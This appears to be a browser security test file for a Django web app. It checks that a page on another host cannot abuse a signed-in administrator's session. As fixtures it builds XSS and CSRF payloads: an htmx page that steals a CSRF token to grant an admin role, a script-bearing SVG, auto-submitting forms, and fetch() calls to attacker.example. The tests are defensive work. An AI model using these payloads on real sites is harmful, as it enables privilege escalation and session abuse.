"""An attacker's own page, on another host, opened by an administrator who is signed in here: nothing runs on our origin, nothing changes.

The attacker is a coordinator who holds a key of their Member's record store, and has stored there what they would like to run.
"""

from __future__ import annotations

import base64
import html
import io
import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any
from urllib.parse import urlencode, urlsplit

import pytest
from django.test import Client

from entrepot.capacity.records.api import make_key
from entrepot.capacity.records.models import Document, Statement
from entrepot.ground.documents.api import Visibility, keep
from entrepot.ground.people.models import Posting
from entrepot.kernel.principals import SYSTEM
from tests.capacity.lrs import HOME, statement

pytestmark = pytest.mark.browser
HOSTS = {
    # A browser tells of itself (Fetch Metadata) where it trusts the address, as it does this machine's ...
    "telling": ("127.0.0.1", "localhost"),
    # ... and not in an office's own network without TLS.
    "silent": ("office.example", "attacker.example"),
}
PLACE = {"activityId": f"{HOME}/1", "profileId": "page"}


class Attacker:
    """A web server of pages by their path; `heard` holds what was asked for under /ran, that is, what ran and told of itself."""

    def __init__(self, host: str) -> None:
        self.pages: dict[str, tuple[str, str]] = {}
        self.heard: list[str] = []
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = urlsplit(self.path).path
                if path.startswith("/ran"):
                    attacker.heard.append(self.path)
                kind, text = attacker.pages.get(path, ("text/plain", ""))
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, *_: Any) -> None:
                """Say nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://{host}:{self.server.server_address[1]}"
        Thread(target=self.server.serve_forever, daemon=True).start()

    def page(self, name: str, body: str) -> str:
        """The address of a new page."""
        self.pages[f"/{name}"] = ("text/html; charset=utf-8", f"<!doctype html><meta charset=utf-8><title>{name}</title><body>{body}")
        return f"{self.url}/{name}"


class Case:
    """The attacker, what they stored, and the administrator's browser."""

    def __init__(self, world: Any, chromium: Any, cookies: list[dict[str, Any]], target: str, attacker: Attacker) -> None:
        self.target, self.attacker = target, attacker
        self.coordinator = world.person("coordinator")
        self.office = world.place("PX-RO")
        issued = make_key(by=SYSTEM, at=world.at, place=world.place("DELT"), name="planted", scopes=["all"])
        self.authorization = "Basic " + base64.b64encode(f"{issued.key.key}:{issued.secret}".encode()).decode()
        self._store(self.evil_page(), "text/html", "page")
        self._store(self.evil_picture(), "image/svg+xml", "picture")
        self._store(f"fetch('{attacker.url}/ran?script')", "text/javascript", "script")
        self.paper = self._paper(world, self.evil_page())
        self.script = self._paper(world, f"self.onfetch = 1; fetch('{attacker.url}/ran?paper')")
        self.context = chromium.new_context()
        self.context.add_cookies(cookies)
        self.page = self.context.new_page()
        self.before = self.state()

    def _paper(self, world: Any, text: str) -> str:
        place = world.place("ATN")
        values = {"about": place.uuid, "title": "Notes", "name": "notes.txt", "visibility": Visibility.PUBLIC}
        kept = keep(by=SYSTEM, at=world.at, place=place, content=io.BytesIO(text.encode()), **values)
        return f"{self.target}/documents/{kept.uuid}/file/"

    def _store(self, text: str, kind: str, name: str) -> None:
        query = urlencode({**PLACE, "profileId": name})
        headers = {"HTTP_AUTHORIZATION": self.authorization, "HTTP_X_EXPERIENCE_API_VERSION": "1.0.3", "HTTP_IF_NONE_MATCH": "*"}
        assert Client().put(f"/xapi/activities/profile?{query}", text, content_type=kind, **headers).status_code == 204

    def evil_page(self) -> str:
        """A page that uses our own htmx to give the attacker a role, and tells if anything of it runs."""
        form = f"/people/{self.coordinator.uuid}/post/"
        role = json.dumps({"role": "regional_admin", "place": self.office.pk, "from_on": "2026-11-01", "to_on": "2027-11-01"})
        return f"""<!doctype html><title>x</title><meta name="htmx-config" content='{{"includeIndicatorStyles":false}}'>
            <script src="/static/vendor/htmx.min.js"></script><script>fetch("{self.attacker.url}/ran?inline")</script>
            <img src="x:" onerror='fetch("{self.attacker.url}/ran?handler")'>
            <div hx-get="{form}" hx-trigger="load" hx-select="[name=csrfmiddlewaretoken]" hx-target="#token"></div><div id="token"></div>
            <div hx-post="{form}" hx-trigger="htmx:afterSettle from:#token" hx-include="#token" hx-vals='{html.escape(role)}'></div>
            <iframe srcdoc="<script>fetch('{self.attacker.url}/ran?srcdoc')</script>"></iframe>"""

    def evil_picture(self) -> str:
        """A picture that is a program."""
        act = f"fetch('{self.attacker.url}/ran?svg')"
        return f"""<svg xmlns="http://www.w3.org/2000/svg" onload="{act}"><script>{act}</script></svg>"""

    def form(self, method: str, where: str, sent: dict[str, str], frame: str = "") -> str:
        """A form in the alternate syntax that sends itself."""
        fields = {"Authorization": self.authorization, "X-Experience-API-Version": "1.0.3", **sent}
        inputs = "".join(f'<input type="hidden" name="{name}" value="{html.escape(value)}">' for name, value in fields.items())
        return f"""<form method="post" action="{self.target}/xapi/{where}?method={method}" target="{frame}">{inputs}</form>
            <script>[...document.forms].at(-1).submit()</script>"""

    def state(self) -> dict[str, Any]:
        """What the attacker would like to change."""
        return {
            "roles": sorted(Posting.objects.values_list("person_id", "role", "place_id", "from_on", "to_on"), key=str),
            "documents": sorted(Document.objects.values_list("slot", "etag", "media_type")),
            "statements": Statement.objects.count(),
        }

    def visit(self, name: str, body: str) -> Any:
        """Open the attacker's page with this body, and wait until nothing moves any more."""
        self.page.goto(self.attacker.page(name, body))
        self.page.wait_for_load_state("networkidle")
        return self.page


@pytest.fixture(params=HOSTS)
def case(request: Any, chromium: Any, live_server: Any, transactional_world: Any, settings: Any) -> Iterator[Case]:
    ours, theirs = HOSTS[request.param]
    settings.ALLOWED_HOSTS = [ours, "testserver"]
    target = f"http://{ours}:{urlsplit(live_server.url).port}"
    session = transactional_world.browser("admin").cookies["sessionid"].value
    attacker = Attacker(theirs)
    made = Case(transactional_world, chromium, [{"name": "sessionid", "value": session, "url": target}], target, attacker)
    yield made
    made.context.close()
    attacker.server.shutdown()
    attacker.server.server_close()


def test_nothing_of_an_attackers_page_runs_here_and_nothing_changes(case: Case) -> None:
    target, url, heard = case.target, case.attacker.url, case.attacker.heard
    # The control: on the attacker's own origin their scripts run, and this browser tells of it.
    case.visit("control", f"<script>fetch('{url}/ran?control')</script>")
    assert heard == ["/ran?control"]
    heard.clear()

    for name in ("page", "picture", "script"):
        sent = {**PLACE, "profileId": name}
        frame = f"<iframe name={name}></iframe>"
        case.visit(
            f"form-{name}", frame + case.form("GET", "activities/profile", sent, name) + case.form("GET", "activities/profile", sent)
        )
    assert case.state() == case.before, "the administrator's own session was used"
    case.visit("put", case.form("PUT", "statements", {"statementId": (one := statement())["id"], "content": json.dumps(one)}))
    case.visit("delete", case.form("DELETE", "activities/profile", PLACE))

    read = f"{target}/xapi/activities/profile?{urlencode(PLACE)}"
    pages = (f"{target}/people/", f"{target}/people/{case.coordinator.uuid}/post/")
    tags = (
        *('<iframe src="{0}"></iframe>', '<object data="{0}"></object>', '<embed src="{0}">', '<img src="{0}">'),
        *('<script src="{0}"></script>', '<script type="module" src="{0}"></script>', '<link rel="stylesheet" href="{0}">'),
    )
    case.visit("embedded", "".join(tag.format(html.escape(address)) for address in (read, case.paper, case.script, *pages) for tag in tags))
    shown = [frame.url for frame in case.page.frames[1:]]
    assert len(shown) > 10
    assert not any(one.startswith(target) for one in shown), shown
    # A link that somebody follows: a document is kept as a file, and the page behind stays.
    case.page.goto(case.attacker.page("link", f'<a href="{case.paper}">Notes</a>'))
    with case.page.expect_download() as taken:
        case.page.get_by_text("Notes").click()
    assert taken.value.suggested_filename == "notes.txt"

    case.visit(
        "hijack",
        f"""<script>
        const told = (how) => fetch("{url}/ran?" + how);
        Object.defineProperty(Object.prototype, "person", {{set() {{ told("setter"); }}}});
        window.Array = function () {{ told("array"); }};
        fetch("{target}/api/v1/me", {{credentials: "include"}}).then((answer) => answer.text()).then(() => told("read"), () => 0);
        fetch("{target}/people/", {{credentials: "include", mode: "no-cors"}}).then((answer) => answer.text())
            .then((text) => text && told("opaque"), () => 0);
        navigator.serviceWorker?.register("{case.script}").then(() => told("worker"), () => 0);
        try {{ new Worker("{case.script}").onerror = () => 0; }} catch {{}}
        </script><script src="{target}/api/v1/me"></script>
        <form method="post" action="{target}/people/{case.coordinator.uuid}/post/" target="f">
        <input name="role" value="regional_admin"></form><iframe name="f"></iframe><script>document.forms[0].submit()</script>""",
    )
    with case.context.expect_page() as opened:
        case.page.goto(
            case.attacker.page(
                "opener",
                f"""<button onclick='window.w = window.open("{target}/people/")'>Open</button>""",
            )
        )
        case.page.get_by_role("button").click()
    opened.value.wait_for_load_state("networkidle")
    assert "people" in opened.value.url
    if target.startswith("http://127.0.0.1"):  # without TLS a browser keeps openers apart by origin alone
        assert opened.value.evaluate("window.opener") is None
        assert case.page.evaluate("window.w.closed")

    assert heard == []
    assert case.state() == case.before
    assert not Posting.objects.filter(person=case.coordinator, role="regional_admin").exists()


def test_what_is_stored_is_inert_however_a_signed_in_browser_comes_to_it(case: Case) -> None:
    """The second line: even where an answer of the record store or a document were shown, its headers let nothing run."""
    case.page.goto(case.target + "/people/")
    assert case.page.evaluate("document.documentElement.classList.contains('js') && typeof htmx.ajax") == "function", "our own scripts run"
    # As if the policy and headers of an answer alone had to hold: its bytes, drawn in our own origin, under its own policy.
    policy = case.page.evaluate(
        """async ([where, headers]) => {
            const answer = await fetch(where, {headers});
            const said = ["content-security-policy", "content-type", "content-disposition"].map((name) => answer.headers.get(name));
            return [answer.status, ...said];
        }""",
        [f"/xapi/activities/profile?{urlencode(PLACE)}", {"Authorization": case.authorization, "X-Experience-API-Version": "1.0.3"}],
    )
    assert policy == [200, "sandbox; default-src 'none'; frame-ancestors 'none'", "application/octet-stream", "attachment"]
    # A script of ours in a place that we did not make: put into a page of ours, it has no nonce.
    blocked = case.page.evaluate(
        """() => new Promise((done) => {
            document.addEventListener("securitypolicyviolation", (event) => done(event.effectiveDirective));
            document.body.insertAdjacentHTML("beforeend", "<div id=planted></div>");
            const script = document.createElement("script");
            script.src = document.querySelector("script[src*=htmx]").src;
            script.onload = () => done("ran");
            document.body.append(script);
        })"""
    )
    assert blocked == "script-src-elem"
    registered = """async (where) => {
        try { return (await navigator.serviceWorker.register(where)).scope; } catch (error) { return error.name; }
    }"""
    if case.target.startswith("http://127.0.0.1"):  # elsewhere there are no service workers without TLS
        assert case.page.evaluate(registered, case.script) in ("SecurityError", "TypeError")
    assert case.attacker.heard == []


def test_a_program_of_another_site_still_asks_in_the_alternate_syntax(case: Case) -> None:
    case.page.goto(case.attacker.page("program", "A course"))
    sent = {"Authorization": case.authorization, "X-Experience-API-Version": "1.0.3", **PLACE}
    by_fetch = case.page.evaluate(
        """async ([where, form]) => (await fetch(where, {method: "POST", body: new URLSearchParams(form)})).text()""",
        [f"{case.target}/xapi/activities/profile?method=GET", sent],
    )
    by_xhr = case.page.evaluate(
        """([where, form]) => new Promise((done) => {
            const xhr = new XMLHttpRequest();
            xhr.open("POST", where);
            xhr.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
            xhr.onloadend = () => done(xhr.responseText);
            xhr.send(new URLSearchParams(form).toString());
        })""",
        [f"{case.target}/xapi/activities/profile?method=GET", sent],
    )
    assert by_fetch == by_xhr == case.evil_page()
